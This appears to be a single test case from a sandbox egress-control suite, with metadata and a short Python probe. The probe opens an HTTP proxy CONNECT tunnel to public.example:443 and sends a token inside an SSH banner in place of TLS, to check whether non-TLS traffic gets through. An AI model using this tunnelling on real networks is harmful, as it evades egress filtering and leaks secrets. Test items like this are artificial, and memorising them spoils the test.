# title: speaks something else than TLS through a tunnel
# harm: reaches
# egress: public.example:443
# B: no network at all
# C: a tunnel must begin with TLS
proxy = 'HTTP_PROXY' in env
s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('93.184.216.34', 443), 2); s.settimeout(1)
if proxy: s.send(b'CONNECT public.example:443 HTTP/1.1\r\n\r\n'); print(s.recv(200))
s.send(b'SSH-2.0-' + TOKEN.encode() + b'\r\n'); time.sleep(0.3)
